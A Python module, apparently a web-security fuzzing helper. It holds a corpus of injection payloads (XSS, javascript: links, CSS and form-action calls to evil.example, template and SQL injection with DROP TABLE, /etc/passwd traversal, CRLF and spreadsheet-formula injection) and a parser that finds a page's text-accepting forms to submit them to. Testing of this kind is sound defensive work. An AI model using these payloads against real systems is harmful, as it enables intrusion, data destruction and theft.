"""Strings that would run, leak or break something if anybody treated them as more than text."""

import re
from html.parser import HTMLParser

SET = "window.hacked=1"
CORPUS = (
    f"<script>{SET}</script>",
    f"<img src=x onerror={SET}>",
    f"<svg onload={SET}><script>{SET}</script></svg>",
    f"\"><script>{SET}</script>",
    f"' onmouseover='{SET}' x='",
    f"\" autofocus onfocus=\"{SET}\" x=\"",
    f"</textarea><script>{SET}</script>",
    f"</title><script>{SET}</script>",
    f"<iframe srcdoc='<script>parent.{SET}</script>'></iframe>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={SET}>",
    f"<a href=javascript:{SET}>x</a>",
    f"[x](javascript:{SET})",
    f"[x](JaVaScRiPt&colon;{SET})",
    f"[x](data:text/html,<script>{SET}</script>)",
    f"![x](x\" onerror=\"{SET})",
    f"<http://x\" onmouseover=\"{SET}>",
    f"[[x\"><script>{SET}</script>]]",
    f"@<script>{SET}</script> #<script>{SET}</script>",
    f"`</code><script>{SET}</script>`",
    f"```\"><script>{SET}</script>\nx\n```",
    f"[x]: javascript:{SET}\n[x]",
    "<style>@import 'http://evil.example/x.css';*{background:url(http://evil.example)}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css><meta http-equiv=refresh content=0>",
    "<base href=http://evil.example/><form action=http://evil.example><button>x</button></form>",
    "{{7*7}}${7*7}<%= 7*7 %>{% raise %}#{7*7}",
    "%s%n%x{0}{a.__class__}",
    "../../../../etc/passwd\0.png",
    "' OR 1=1; DROP TABLE post;--",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>1</script>",
    "\u202egnp.exe\u202c \u200b\ufeff\ud83d",
)  # fmt: skip
CORPUS = tuple(text.encode("utf-8", "replace").decode() for text in CORPUS)  # as a browser sends it


class Forms(HTMLParser):
    """[(address, {field: value})] of the posting forms of a page, text fields under TEXT."""

    def __init__(self, here):
        super().__init__()
        self.here, self.forms, self.form = here, [], None

    def handle_starttag(self, tag, attributes):
        facts = dict(attributes)
        if tag == "form":
            posts = facts.get("method", "").lower() == "post"
            self.form = (facts.get("action") or self.here, {}, []) if posts else None
            if posts:
                self.forms.append(self.form)
        elif self.form and tag in ("input", "textarea", "select", "button") and "name" in facts:
            self._field(tag, facts)

    def handle_endtag(self, tag):
        if tag == "form":
            self.form = None

    def _field(self, tag, facts):
        kind = facts.get("type", "text") if tag == "input" else tag
        _, values, texts = self.form
        if kind in {"text", "email", "search", "textarea", "url", "date", "number", "password"}:
            texts.append(facts["name"])
        elif kind == "hidden" or (kind in {"radio", "checkbox"} and "checked" in facts):
            values[facts["name"]] = facts.get("value", "1") or ""


def forms_of(here, page):
    """[(address, values, names of text fields)] of a page's posting forms that take any text."""
    parser = Forms(here)
    parser.feed(page)
    return [form for form in parser.forms if form[2]]


def links_of(page):
    """Own addresses that a page links to."""
    return {link for link in re.findall(r'href="(/[^"]*)"', page) if not link.startswith("//")}
